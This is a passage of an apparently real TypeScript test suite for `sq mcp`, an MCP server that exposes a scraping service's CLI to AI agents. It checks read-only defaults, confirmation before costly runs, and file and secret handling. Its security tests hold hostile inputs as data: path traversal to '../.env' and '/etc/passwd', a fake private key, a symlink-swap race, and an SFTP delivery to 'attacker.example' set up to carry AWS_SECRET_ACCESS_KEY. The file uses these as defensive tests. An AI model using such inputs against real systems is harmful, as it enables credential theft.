// `sq mcp` as an agent runs it: the built bin/sq.js spawned over stdio, and served over Streamable HTTP, driven by the
// MCP SDK's own Client (and, at the end, by the MCP Inspector's CLI: a client nobody here wrote), against the emulator
// on loopback. Every answer is checked against its tool's outputSchema with Ajv. A test of what the server answers
// runs it in this process (test/helpers/mcp-client.ts: main.ts's run() over a pair of streams, or on a loopback port
// with --http), a few ms to start against ~0.3 s of CPU for a process that loads the MCP SDK; what is about the
// process (a whole session as an agent host spawns it, stdio on real pipes, a signal, the exit codes, a closed pipe,
// the bind and its warning, the Inspector) runs the binary.
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { createServer } from 'node:net';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { execa } from 'execa';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { useEmulator } from '../helpers/emulator.js';
import { EVENT_MS, SLOW } from '../helpers/timeouts.js';
import { BIN, sq, sqIn, tempConfigDir } from '../helpers/cli.js';
import {
  mcpInProcess,
  newClient,
  schemaValidator,
  startMcpInProcess,
  type McpInProcess,
} from '../helpers/mcp-client.js';
import { DEMO_SQUIDS, newAccount } from '../../src/emulator/seed.js';
import { waitFor } from '../helpers/wait.js';

const emu = useEmulator({ each: 'reset' });

const READ_TOOLS = [
  'accounts_get',
  'accounts_list',
  'balance',
  'billing_auto_reset_get',
  'crawlers_get',
  'crawlers_params',
  'crawlers_search',
  'delivery_show',
  'plan',
  'results_list',
  'results_url',
  'runs_credits',
  'runs_get',
  'runs_list',
  'runs_stats',
  'runs_wait',
  'squids_estimate',
  'squids_get',
  'squids_list',
  'status',
  'tasks_list',
  'whoami',
];
const WRITE_TOOLS = [
  'apply',
  'delivery_apply',
  'delivery_email',
  'delivery_s3',
  'delivery_sftp',
  'delivery_sheet',
  'delivery_test',
  'delivery_webhook',
  'go',
  'runs_abort',
  'runs_start',
  'squids_attach_account',
  'squids_create',
  'squids_deactivate',
  'squids_empty',
  'squids_update',
  'tasks_add',
];
const SECRET = 'FAKE-SECRET-3b7Kq9ZxW2';

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = mkdtempSync(join(tmpdir(), 'sq-mcp-'));
  dirs.push(d);
  return d;
}

function serverEnv(extra: Record<string, string> = {}): Record<string, string> {
  return {
    PATH: process.env.PATH ?? '',
    SQ_CONFIG_DIR: tempConfigDir(),
    SQ_CACHE_DIR: process.env.SQ_CACHE_DIR ?? '',
    NO_COLOR: '1',
    ...emu.env(),
    ...extra,
  };
}

type Tool = {
  name: string;
  outputSchema?: object;
  inputSchema: { properties?: Record<string, unknown> };
  annotations?: Record<string, unknown>;
};
type CallResult = {
  content: Array<{ type: string; text: string }>;
  structuredContent?: Record<string, unknown>;
  isError?: boolean;
};

/**
 * The validator of an outputSchema, compiled once for the file (schemaValidator: Ajv with its formats, as the SDK's
 * client checks answers, and the very validator this file's clients use): the servers of its tests list the same
 * schemas, and compiling all of them for each server took more CPU than most tests' calls.
 */
const validator = schemaValidator;

/** A connected client, every answer checked against its tool's outputSchema, and the bytes of all answers counted. */
class Agent {
  bytes = 0;
  answers: string[] = [];
  private validators = new Map<string, ReturnType<typeof schemaValidator>>();
  constructor(
    readonly client: Client,
    readonly stderr: () => string = () => '',
  ) {}
  async tools(): Promise<Tool[]> {
    const { tools } = await this.client.listTools();
    for (const t of tools as Tool[]) if (t.outputSchema) this.validators.set(t.name, validator(t.outputSchema));
    return tools as Tool[];
  }
  async call(name: string, args: Record<string, unknown> = {}): Promise<CallResult> {
    if (!this.validators.size) await this.tools();
    const r = (await this.client.callTool({ name, arguments: args })) as CallResult;
    const text = JSON.stringify(r);
    this.bytes += Buffer.byteLength(text);
    this.answers.push(text);
    // One text part per answer, and (on success) the same object as structuredContent, valid against the outputSchema.
    expect(r.content, name).toHaveLength(1);
    if (!r.isError) {
      expect(JSON.parse(r.content[0].text), name).toEqual(r.structuredContent);
      const validate = this.validators.get(name);
      expect(validate, `${name} has an outputSchema`).toBeDefined();
      const checked = validate!(r.structuredContent);
      expect(checked.valid, `${name}: ${checked.errorMessage}`).toBe(true);
    }
    return r;
  }
  async ok(name: string, args: Record<string, unknown> = {}): Promise<Record<string, any>> {
    const r = await this.call(name, args);
    expect(r.isError, `${name}: ${r.content[0]?.text}`).toBeFalsy();
    return r.structuredContent as Record<string, any>;
  }
}

const clients: Client[] = [];
const children: ChildProcessWithoutNullStreams[] = [];
const inProcess: McpInProcess[] = [];
afterEach(async () => {
  await Promise.all(clients.splice(0).map((c) => c.close()));
  for (const c of children.splice(0)) if (c.exitCode === null) c.kill('SIGKILL');
  await Promise.all(inProcess.splice(0).map((s) => s.stop()));
});

/** `sq mcp ARGS` on stdio: in this process unless `how` is 'bin' (the built binary, spawned as an agent host does). */
async function stdio(args: string[] = [], env = serverEnv(), how: 'in-process' | 'bin' = 'in-process'): Promise<Agent> {
  if (how === 'in-process') {
    const { client, stderr } = await mcpInProcess(args, env);
    clients.push(client);
    return new Agent(client, stderr);
  }
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [BIN, 'mcp', ...args],
    env,
    stderr: 'pipe',
  });
  let err = '';
  transport.stderr?.on('data', (d) => (err += String(d)));
  const client = newClient('sq-test');
  await client.connect(transport);
  clients.push(client);
  return new Agent(client, () => err);
}

/** `sq mcp --http 127.0.0.1:0 …` in this process: its first stdout line, {url, token}; stop() ends it (SIGTERM). */
async function httpInProcess(
  args: string[] = [],
  env = serverEnv(),
): Promise<{ url: string; token: string; stderr: () => string; stop: () => Promise<number> }> {
  const server = startMcpInProcess(['--http', '127.0.0.1:0', ...args], env);
  inProcess.push(server);
  let out = '';
  const line = await new Promise<string>((ok, fail) => {
    server.stdout.on('data', (d) => {
      out += String(d);
      if (out.includes('\n')) ok(out.split('\n')[0]);
    });
    void server.code.then(() => fail(new Error(`sq mcp --http ended: ${server.stderr()}`)));
  });
  return { ...(JSON.parse(line) as { url: string; token: string }), stderr: server.stderr, stop: server.stop };
}

async function http(args: string[] = [], env = serverEnv()): Promise<Agent> {
  const server = await httpInProcess(args, env);
  const client = newClient('sq-test-http');
  await client.connect(
    new StreamableHTTPClientTransport(new URL(server.url), {
      requestInit: { headers: { authorization: `Bearer ${server.token}` } },
    }),
  );
  clients.push(client);
  return new Agent(client, server.stderr);
}

const json = (args: string[]) => sq([...args, '--json'], { env: emu.env() }).then((r) => JSON.parse(r.stdout) as any);

/**
 * The scripted session of an agent from nothing (issue 31): search a crawler, read it, create a squid, add tasks,
 * estimate, go refused then confirmed, wait (capped), results with fields, results URL. Returns the answers' bytes.
 */
async function session(agent: Agent): Promise<void> {
  const found = await agent.ok('crawlers_search', { query: 'google maps search' });
  expect(found.exact).toBe(true);
  const crawler = found.items.find((c: { slug: string }) => c.slug === 'google-maps-search-export');
  expect(crawler).toBeDefined();
  expect(JSON.stringify(found)).not.toContain('icon');

  const got = await agent.ok('crawlers_get', { crawler: crawler.slug });
  expect(got.task_inputs[0].inputs[0]).toMatchObject({ level: 'task', wire: 'url' });
  expect(got.squid_params[0].level).toBe('squid');
  expect(got.outputs).toContain('phone');

  const squid = await agent.ok('squids_create', { crawler: crawler.id, name: 'MCP cafés', params: { max_results: 5 } });
  expect(squid).toMatchObject({ name: 'MCP cafés', params: { max_results: 5 } });
  expect(squid).not.toHaveProperty('download_url');
  const added = await agent.ok('tasks_add', {
    squid: squid.id,
    values: ['https://www.google.com/maps/search/cafe+berlin', 'https://www.google.com/maps/search/cafe+paris'],
  });
  expect(JSON.stringify(added)).toContain('2');

  const estimate = await agent.ok('squids_estimate', { squid: squid.id });
  expect(estimate.total_credits).toBeGreaterThan(0);
  expect(estimate.services[0]).toMatchObject({ name: expect.any(String), credits: expect.any(Number) });

  await emu.clearRequests();
  const go = {
    crawler: crawler.slug,
    tasks: ['https://www.google.com/maps/search/bakery+lyon'],
    params: { max_results: 5 },
    idempotency_key: 'agent-1',
  };
  const first = await agent.ok('go', go);
  // Refused above --confirm-above (0 here): the estimate, and no run started.
  expect(first).toMatchObject({ needs_confirmation: true, idempotency_key: 'agent-1' });
  expect(first.estimate.total_credits).toBeGreaterThan(0);
  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/runs')).toEqual([]);
  const confirmed = await agent.ok('go', { ...go, confirm: true });
  const runId: string = confirmed.run.id;
  expect(confirmed.squid).toBe(first.squid);
  // A retry with the same key: the same run, never a second one.
  const again = await agent.ok('go', { ...go, confirm: true });
  expect(again.run.id).toBe(runId);
  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/runs')).toHaveLength(1);
  expect((await emu.requests('POST')).filter((r) => r.path === '/v1/squids')).toHaveLength(1);

  // The wait is capped: the run as it stands, still_running: true, while the emulator's clock stands still.
  const waited = await agent.ok('runs_wait', { run: runId, wait_seconds: 1 });
  expect(waited).toMatchObject({ id: runId, still_running: true });
  // A longer wait is capped at 50 s with a note (issue 48), not refused: its schema takes it (a call with 51 here would
  // wait 50 real seconds on the standing clock; test/e2e/mcp-agent-tasks.test.ts makes one on a finished run).
  expect(JSON.stringify((await agent.tools()).find((t) => t.name === 'runs_wait')?.inputSchema)).not.toMatch(
    /"maximum":50/,
  );
  await emu.advance(3_600_000);
  const done = await agent.ok('runs_wait', { run: runId, wait_seconds: 20 });
  expect(done.still_running).toBeUndefined();
  expect(done.status).toBe('done');

  const page = await agent.ok('results_list', { run: runId, fields: ['name', 'phone'], limit: 2 });
  expect(page.items.length).toBeGreaterThan(0);
  for (const row of page.items) expect(Object.keys(row).every((k) => ['name', 'phone'].includes(k))).toBe(true);
  if (page.items.length === 2) expect(typeof page.next_cursor).toBe('string');

  const url = await agent.ok('results_url', { run: runId });
  expect(url.url).toMatch(/Signature=(?!\*)/);
  const file = await fetch(url.url);
  expect(file.status).toBe(200);
  // The signed URL is the user's own: never in the server's -v trace.
  expect(agent.stderr()).toContain('/download');
  expect(agent.stderr()).not.toContain(new URL(url.url).searchParams.get('Signature'));
}

describe('an agent session from nothing, with the SDK client', SLOW, () => {
  // Over stdio, the built binary as an agent host spawns it; over HTTP, the server in this process (the binary's own
  // --http is below: its bind, its first line and its warning).
  for (const transport of ['stdio', 'http'] as const) {
    it(`over ${transport}: search, read, create, add tasks, estimate, go refused then confirmed, wait capped, results, URL`, async () => {
      const args = ['--allow-writes', '--confirm-above', '0', '-v'];
      const agent = transport === 'stdio' ? await stdio(args, serverEnv(), 'bin') : await http(args);
      await session(agent);
    });
  }
});

describe('tools: names, annotations, schemas', SLOW, () => {
  it('read-only by default: the read tools, each with an outputSchema and openWorldHint (they call the API)', async () => {
    const agent = await stdio();
    const tools = await agent.tools();
    expect(tools.map((t) => t.name).sort()).toEqual(READ_TOOLS);
    for (const t of tools) {
      expect(t.annotations, t.name).toMatchObject({ readOnlyHint: true, openWorldHint: true });
      expect(t.outputSchema, t.name).toBeDefined();
    }
  });

  it('--allow-writes adds the writes (not deletes and billing); =all and =LIST decide those', async () => {
    const names = (await (await stdio(['--allow-writes'])).tools()).map((t) => t.name).sort();
    expect(names).toEqual([...READ_TOOLS, ...WRITE_TOOLS].sort());
    const all = (await (await stdio(['--allow-writes=all'])).tools()).map((t) => t.name);
    expect(all).toEqual(expect.arrayContaining(['tasks_delete', 'squids_delete', 'billing_auto_reset_set']));
    const listed = (await (await stdio(['--allow-writes=tasks_delete,go'])).tools()).map((t) => t.name);
    expect(listed.filter((n) => !READ_TOOLS.includes(n)).sort()).toEqual(['go', 'tasks_delete']);
  });

  it('every tool answers structuredContent valid against its outputSchema (writes as dry runs)', async () => {
    const agent = await stdio(
      ['--allow-writes=all', '--secret-env', 'SFTP_PASSWORD,S3_KEY,S3_SECRET'],
      serverEnv({ SFTP_PASSWORD: 'pw', S3_KEY: 'k', S3_SECRET: 's' }),
    );
    const tools = await agent.tools();
    const paris = DEMO_SQUIDS.paris;
    const runs = await json(['runs', 'list', '--squid', paris]);
    const tasks = await json(['tasks', 'list', '--squid', paris]);
    const run = runs[0].id;
    const doc = 'squids:\n  "Paris restaurants":\n    concurrency: 2\n';
    const args: Record<string, Record<string, unknown>> = {
      accounts_get: { account: 'demo_scraper' },
      accounts_list: {},
      balance: {},
      billing_auto_reset_get: {},
      crawlers_get: { crawler: 'google-maps-search-export' },
      crawlers_params: { crawler: 'google-maps-search-export' },
      crawlers_search: { query: 'amazon' },
      delivery_show: { squid: paris },
      plan: { document: doc },
      results_list: { squid: paris },
      results_url: { run },
      runs_credits: { run },
      runs_get: { run },
      runs_list: {},
      runs_stats: { run },
      runs_wait: { run, wait_seconds: 2 },
      squids_estimate: { squid: paris },
      squids_get: { squid: paris },
      squids_list: {},
      status: {},
      tasks_list: { squid: paris },
      whoami: {},
      apply: { document: doc },
      delivery_apply: { document: 'squids:\n  "Paris restaurants":\n    email: ops@example.com\n' },
      delivery_email: { squid: paris, email: 'ops@example.com' },
      delivery_s3: {
        squid: paris,
        bucket: 'b',
        target_path: '',
        access_key_env: 'S3_KEY',
        secret_key_env: 'S3_SECRET',
      },
      delivery_sftp: {
        squid: paris,
        host: 'sftp.example.com',
        username: 'u',
        directory: '/d',
        password_env: 'SFTP_PASSWORD',
      },
      delivery_sheet: { squid: paris, url: 'https://docs.google.com/spreadsheets/d/x' },
      delivery_test: { kind: 'webhook', url: 'https://hooks.example.com/x' },
      delivery_webhook: { squid: paris, url: 'https://hooks.example.com/x' },
      go: { crawler: 'google-maps-search-export', tasks: ['https://www.google.com/maps/search/x'] },
      runs_abort: { run },
      runs_start: { squid: paris },
      squids_attach_account: { squid: DEMO_SQUIDS.influencers, account: 'demo_scraper' },
      squids_create: { crawler: 'google-maps-search-export' },
      squids_deactivate: { squid: paris },
      squids_empty: { squid: paris },
      squids_update: { squid: paris, concurrency: 2 },
      tasks_add: { squid: paris, values: ['https://x.example/1'] },
      billing_auto_reset_set: { enabled: false },
      squids_delete: { squid: paris },
      tasks_delete: { task: tasks[0].id },
    };
    await emu.clearRequests();
    for (const t of tools) {
      expect(args[t.name], `arguments for ${t.name}`).toBeDefined();
      const write = !READ_TOOLS.includes(t.name);
      const r = await agent.call(t.name, { ...args[t.name], ...(write ? { dry_run: true } : {}) });
      expect(r.isError, `${t.name}: ${r.content[0].text}`).toBeFalsy();
    }
    // Nothing written: reads, and the estimate (a POST that changes nothing).
    expect((await emu.requests()).filter((r) => r.method !== 'GET' && r.path !== '/v1/squid/estimate')).toEqual([]);
  });

  it('lists: 20 rows by default, cursor in and next_cursor out, fields; no icons or empty fields', async () => {
    const agent = await stdio();
    const first = await agent.ok('results_list', { squid: DEMO_SQUIDS.paris });
    expect(first.items).toHaveLength(20);
    expect(typeof first.next_cursor).toBe('string');
    const second = await agent.ok('results_list', { squid: DEMO_SQUIDS.paris, cursor: first.next_cursor });
    expect(second.items[0]).not.toEqual(first.items[0]);
    const all = await json(['results', 'list', '--squid', DEMO_SQUIDS.paris, '--limit', '40']);
    expect(second.items[0].name).toBe(all[20].name);
    const slim = await agent.ok('squids_list', { fields: ['id', 'name'], limit: 2 });
    expect(slim.items.every((s: object) => Object.keys(s).join() === 'id,name')).toBe(true);
    const bad = await agent.call('tasks_list', { squid: DEMO_SQUIDS.paris, cursor: 'nope' });
    expect(bad.content[0].text).toMatch(/^USAGE \(exit 2\): tasks_list: "cursor" is not one/);
    const text = agent.answers.join('');
    expect(text).not.toMatch(/"icon"|:null|:""|:\[\]|:\{\}/);
  });

  it("an error is a tool error with the CLI's message and its exit-code name; the server stays up", async () => {
    const agent = await stdio();
    const missing = await agent.call('squids_get', { squid: 'no such squid' });
    expect(missing.isError).toBe(true);
    expect(missing.content[0].text).toMatch(/^NOT_FOUND \(exit 3\): no squid matches "no such squid"/);
    expect(missing.structuredContent).toBeUndefined();
    expect((await agent.call('balance')).isError).toBeFalsy();
  });

  it('read-only by default: a write tool is refused, naming --allow-writes, and nothing is sent', async () => {
    const agent = await stdio();
    await emu.clearRequests();
    const r = (await agent.client.callTool({
      name: 'runs_start',
      arguments: { squid: DEMO_SQUIDS.paris },
    })) as CallResult;
    expect(r.isError).toBe(true);
    expect(r.content[0].text).toContain('start it with `sq mcp --allow-writes`');
    const del = (await agent.client.callTool({ name: 'tasks_delete', arguments: { task: 'abcd' } })) as CallResult;
    expect(del.content[0].text).toContain('`sq mcp --allow-writes=tasks_delete`');
    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
  });

  it('--allow-writes with an unknown tool is exit 2 naming the allowed ones, before serving', async () => {
    // Refused before serving: the CLI's own check, in-process (sqIn); the process's own exits are shown below.
    const r = await sqIn(['mcp', '--allow-writes=runs_strat'], { env: serverEnv() });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--allow-writes: unknown write tool "runs_strat"');
    expect(r.stdout).toBe('');
  });

  it('bad flags are exit 2 naming the flag, before serving', async () => {
    for (const [args, flag] of [
      [['--root', '/nonexistent/dir'], '--root'],
      [['--secret-env', 'NOT-A-NAME'], '--secret-env'],
      [['--confirm-above', '-1'], '--confirm-above'],
      [['--max-message-bytes', '10'], '--max-message-bytes'],
      [['--http', 'host:port'], '--http'],
      [['--token-env', 'MCP_TOKEN'], '--token-env: only with --http'],
      [
        ['--http', '127.0.0.1:0', '--token-env', 'UNSET_TOKEN_VAR'],
        '--token-env: environment variable UNSET_TOKEN_VAR is not set',
      ],
    ] as const) {
      const r = await sqIn(['mcp', ...args], { env: serverEnv() });
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toContain(flag);
      expect(r.stdout).toBe('');
    }
  });

  it('squids_attach_account adds the account and keeps the linked ones', async () => {
    emu.expectWrites('POST /v1/squids/*');
    const agent = await stdio(['--allow-writes']);
    // Two accounts of the Twitter squid's type (another type is refused: the crawler's account_type, issue 32).
    newAccount(emu.emu as unknown as Parameters<typeof newAccount>[0], 'twitter-sync', 'second_feed', Date.now());
    const accounts = (await json(['accounts', 'list'])) as Array<{ id: string; username: string; type: string }>;
    const [a, b] = accounts.filter((x) => x.type === 'twitter-sync');
    const squid = DEMO_SQUIDS.influencers;
    await agent.ok('squids_attach_account', { squid, account: a.id });
    const r = await agent.ok('squids_attach_account', { squid, account: b.username });
    expect(r.accounts.map((x: { id?: string } | string) => (typeof x === 'string' ? x : x.id)).sort()).toEqual(
      [a.id, b.id].sort(),
    );
    const listed = await agent.ok('accounts_get', { account: a.id });
    expect(JSON.stringify(listed)).not.toMatch(/cookie|password/i);
  });

  it('runs_start answers needs_confirmation above --confirm-above and starts nothing; confirm: true starts it; a key replays it', async () => {
    emu.expectWrites('POST /v1/runs');
    const agent = await stdio(['--allow-writes', '--confirm-above', '1']);
    await emu.clearRequests();
    const asked = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1' });
    expect(asked).toMatchObject({ needs_confirmation: true, estimate: { total_credits: expect.any(Number) } });
    expect(asked.message).toContain('confirm: true');
    expect((await emu.requests('POST')).map((q) => q.path)).toEqual(['/v1/squid/estimate']);
    const run = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1', confirm: true });
    expect(run.id).toMatch(/^[0-9a-f]{32}$/);
    const again = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'r-1', confirm: true });
    expect(again).toMatchObject({ id: run.id, replayed: true });
    expect((await emu.requests('POST')).filter((q) => q.path === '/v1/runs')).toHaveLength(1);
    // Under the threshold: no question.
    const cheap = await stdio(['--allow-writes', '--confirm-above', '1000000']);
    expect((await cheap.ok('runs_start', { squid: DEMO_SQUIDS.headphones })).needs_confirmation).toBeUndefined();
  });

  it('runs_start under --confirm-above still asks when the run would set off an Auto Billing Reset (a card charge)', async () => {
    // Usage just under an 80% threshold: the paris run crosses it once (auto_reset_charges 1), whatever its credits.
    await emu.control('POST', '/_emulator/billing', {
      auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] },
    });
    await emu.control('POST', '/_emulator/usage', { pct: 79.99 });
    const agent = await stdio(['--allow-writes', '--confirm-above', '1000000']);
    await emu.clearRequests();
    const asked = await agent.ok('runs_start', { squid: DEMO_SQUIDS.paris });
    expect(asked).toMatchObject({ needs_confirmation: true, estimate: { auto_reset_charges: 1 } });
    expect(asked.message).toContain('Auto Billing Reset');
    expect((await emu.requests('POST')).map((q) => q.path)).toEqual(['/v1/squid/estimate']);
  });

  it('a reset already due before the run is said apart in squids_estimate and asks no confirmation of its own', async () => {
    // Usage above an 80% threshold already: the next check fires a reset whether or not the run starts.
    await emu.control('POST', '/_emulator/billing', {
      auto_reset: { enabled: true, threshold_pct: 80, max_resets_per_24h: 3, reset_times: [] },
    });
    await emu.control('POST', '/_emulator/usage', { pct: 81 });
    const agent = await stdio(['--allow-writes', '--confirm-above', '1000000']);
    const est = await agent.ok('squids_estimate', { squid: DEMO_SQUIDS.headphones });
    expect(est).toMatchObject({ pending_reset: true, auto_reset_charges: 0 });
    emu.expectWrites('POST /v1/runs');
    expect((await agent.ok('runs_start', { squid: DEMO_SQUIDS.headphones })).needs_confirmation).toBeUndefined();
  });

  it('apply of a document that turns a schedule on answers needs_confirmation and writes nothing; confirm: true applies it', async () => {
    const doc = `squids:\n  "${DEMO_SQUIDS.paris}":\n    active: true\n    schedule: { cron: "*/5 * * * *", timezone: UTC }\n`;
    const agent = await stdio(['--allow-writes=all']);
    await emu.clearRequests();
    const asked = await agent.ok('apply', { document: doc });
    expect(asked.needs_confirmation).toBe(true);
    expect(asked.starts_runs[0].what).toContain('schedule');
    expect(asked.message).toContain('nothing was sent');
    expect((await emu.requests()).filter((q) => q.method !== 'GET' && q.path !== '/v1/squid/estimate')).toEqual([]);
    emu.expectWrites('POST /v1/squids/*');
    const done = await agent.ok('apply', { document: doc, confirm: true });
    expect(done.needs_confirmation).toBeUndefined();
    expect((await emu.requests('POST')).map((q) => q.path)).toContain(`/v1/squids/${emu.squidId(DEMO_SQUIDS.paris)}`);
  });

  it('apply of a document that writes an autostart chain answers needs_confirmation and writes no chain', async () => {
    const doc = `squids:\n  "${DEMO_SQUIDS.paris}":\n    chain: { target_crawler: amazon-products, field_map: { website: url } }\n`;
    const agent = await stdio(['--allow-writes=all']);
    await emu.clearRequests();
    const asked = await agent.ok('apply', { document: doc });
    expect(asked.needs_confirmation).toBe(true);
    expect(asked.message).toContain('nothing was sent');
    expect((await emu.requests()).filter((q) => q.method !== 'GET' && q.path !== '/v1/squid/estimate')).toEqual([]);
    expect(emu.emu.state.squids[emu.squidId(DEMO_SQUIDS.paris)].chain).toBeUndefined();
  });

  it('a write whose connection drops after sending says request_state: "unknown", and is not retried', async () => {
    const agent = await stdio(['--allow-writes']);
    await emu.faults([{ method: 'POST', path: '/v1/runs', action: 'reset_mid_body', count: 1 }]);
    const r = await agent.call('runs_start', { squid: DEMO_SQUIDS.paris, idempotency_key: 'drop-1' });
    expect(r.isError).toBe(true);
    expect(r.content[0].text).toContain('request_state: unknown');
    // The same key again: refused as unknown rather than a second run.
    expect((await emu.requests('POST')).filter((q) => q.path === '/v1/runs')).toHaveLength(1);
  });
});

describe('files: no tool reads one unless --root, and no answer quotes one', SLOW, () => {
  function fixture() {
    const home = tempDir();
    const root = join(home, 'root');
    mkdirSync(root);
    writeFileSync(join(home, '.env'), `DATABASE_URL=postgres://u:${SECRET}@db/x\n`);
    writeFileSync(
      join(home, 'id_ed25519'),
      `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRET}\n-----END OPENSSH PRIVATE KEY-----\n`,
    );
    symlinkSync(join(home, '.env'), join(root, 'link.yaml'));
    writeFileSync(join(root, 'sq.yaml'), 'squids:\n  "Paris restaurants":\n    concurrency: 2\n');
    writeFileSync(join(root, 'bad.yaml'), `squids:\n  a: { crawler: [${SECRET}] }\n`);
    writeFileSync(join(root, 'big.yaml'), `# ${'x'.repeat(1024 * 1024)}\n`);
    writeFileSync(join(root, 'tasks.yaml'), 'squids:\n  "Paris restaurants":\n    tasks: { file: ../.env }\n');
    return { home, root };
  }

  it('without --root: a path is refused naming --root; a document inline works; its tasks files are refused', async () => {
    const { home } = fixture();
    const agent = await stdio(['--allow-writes']);
    for (const [tool, extra] of [
      ['plan', {}],
      ['apply', { dry_run: true }],
      ['delivery_apply', { dry_run: true }],
    ] as const) {
      for (const file of [join(home, '.env'), join(home, 'id_ed25519'), '/etc/passwd', '.env']) {
        const r = await agent.call(tool, { file, ...extra });
        expect(r.isError).toBe(true);
        expect(r.content[0].text).toContain('--root');
      }
    }
    const inline = await agent.ok('plan', { document: 'squids:\n  "Paris restaurants":\n    concurrency: 2\n' });
    expect(inline.summary).toBeDefined();
    const tasks = await agent.call('plan', {
      document: 'squids:\n  "Paris restaurants":\n    tasks: { file: .env }\n',
    });
    expect(tasks.content[0].text).toContain('--root');
    expect(agent.answers.join('')).not.toContain(SECRET);
    expect(agent.answers.join('')).not.toContain('root:x:0');
  });

  it('with --root: inside it works; "..", an absolute path outside, a symbolic link out, a big file are refused; parse errors quote nothing', async () => {
    const { home, root } = fixture();
    const agent = await stdio(['--root', root]);
    expect((await agent.ok('plan', { file: 'sq.yaml' })).summary).toBeDefined();
    for (const file of [
      '../.env',
      join(home, '.env'),
      'link.yaml',
      'big.yaml',
      '/etc/passwd',
      'tasks.yaml',
      'bad.yaml',
      'nope.yaml',
    ]) {
      const r = await agent.call('plan', { file });
      expect(r.isError, file).toBe(true);
    }
    const bad = await agent.call('plan', { file: 'bad.yaml' });
    expect(bad.content[0].text).toMatch(/bad\.yaml:2:\d+: squids\.a\.crawler: must be a string \(got a list\)/);
    const parse = await agent.call('plan', { document: `squids: {a: "${SECRET}\n` });
    expect(parse.content[0].text).toMatch(/<stdin>:\d+:\d+: cannot parse the account file: expected/);
    expect(agent.answers.join('')).not.toContain(SECRET);
    expect(agent.answers.join('')).not.toContain('root:x:0');
  });
});

describe('a file under --root is opened once: what was checked is what is read (issue 46, 5)', SLOW, () => {
  it('swapped all the while between a document and a symbolic link out of the root: never read through the link', async () => {
    const home = tempDir();
    const root = join(home, 'root');
    mkdirSync(root);
    const outside = join(home, 'outside.yaml');
    writeFileSync(outside, 'squids:\n  "Lyon bakeries":\n    concurrency: 3\n');
    const inside = 'squids:\n  "Paris restaurants":\n    concurrency: 2\n';
    writeFileSync(join(root, 'doc.yaml'), inside);
    // Another process swaps doc.yaml for a link out and back, each time by an atomic rename, as fast as it can.
    const swap = `const fs = require('fs'); const [root, outside, inside] = process.argv.slice(1);
      for (;;) { fs.writeFileSync(root + '/.a', inside); fs.renameSync(root + '/.a', root + '/doc.yaml');
        fs.symlinkSync(outside, root + '/.b'); fs.renameSync(root + '/.b', root + '/doc.yaml'); }`;
    const swapper = spawn(process.execPath, ['-e', swap, root, outside, inside], { stdio: 'ignore' });
    const answers: string[] = [];
    try {
      const agent = await stdio(['--root', root]);
      for (let i = 0; i < 60; i++) {
        const r = await agent.call('plan', { file: 'doc.yaml' });
        answers.push(`${r.isError ? 'refused' : 'planned'} ${r.content[0].text}`);
      }
    } finally {
      swapper.kill('SIGKILL');
    }
    // Each call planned the document inside, or was refused (the link, seen on the descriptor); never the one outside.
    expect(answers.filter((a) => a.includes('Lyon bakeries'))).toEqual([]);
    expect(answers.filter((a) => a.startsWith('planned') && !a.includes('Paris restaurants'))).toEqual([]);
    expect(answers.some((a) => a.startsWith('planned'))).toBe(true);
  });
});

describe('secrets for writes come only from --secret-env (issue 33, E2)', SLOW, () => {
  it('delivery_sftp, delivery_s3 and ${VAR} in an applied document are refused naming --secret-env; the host set is shown', async () => {
    emu.expectWrites('POST /v1/delivery');
    const env = serverEnv({ AWS_SECRET_ACCESS_KEY: 'AKIAFAKE0123456789', SFTP_PASSWORD: 'pw-123' });
    const agent = await stdio(['--allow-writes', '--secret-env', 'SFTP_PASSWORD'], env);
    await emu.clearRequests();
    const sftp = { squid: DEMO_SQUIDS.paris, host: 'attacker.example', username: 'u', directory: '/d' };
    const stolen = await agent.call('delivery_sftp', { ...sftp, password_env: 'AWS_SECRET_ACCESS_KEY' });
    expect(stolen.isError).toBe(true);
    expect(stolen.content[0].text).toContain('--secret-env');
    const s3 = await agent.call('delivery_s3', {
      squid: DEMO_SQUIDS.paris,
      bucket: 'b',
      access_key_env: 'SFTP_PASSWORD',
      secret_key_env: 'AWS_SECRET_ACCESS_KEY',
    });
    expect(s3.content[0].text).toContain('--secret-env');
    const doc =
      'squids:\n  "Paris restaurants":\n    sftp: { host: attacker.example, username: u, directory: /d, password: "${AWS_SECRET_ACCESS_KEY}" }\n';
    for (const tool of ['apply', 'delivery_apply', 'plan'])
      expect((await agent.call(tool, { document: doc })).content[0].text, tool).toContain(
        '--secret-env AWS_SECRET_ACCESS_KEY',
      );
    expect((await emu.requests()).filter((q) => q.method !== 'GET')).toEqual([]);
    const allowed = await agent.ok('delivery_sftp', { ...sftp, password_env: 'SFTP_PASSWORD' });
    expect(allowed.delivery_host).toBe('attacker.example:22');
    expect(agent.answers.join('')).not.toContain('AKIAFAKE0123456789');
    expect(agent.answers.join('')).not.toContain('pw-123');
  });
});

describe('arguments a tool does not take (issue 46, 10)', SLOW, () => {
  it('are refused with -32602 naming the argument, before anything is sent; every input schema says additionalProperties: false', async () => {
    const agent = await stdio(['--allow-writes']);
    for (const t of await agent.tools())
      expect((t.inputSchema as { additionalProperties?: unknown }).additionalProperties, t.name).toBe(false);
    await emu.clearRequests();
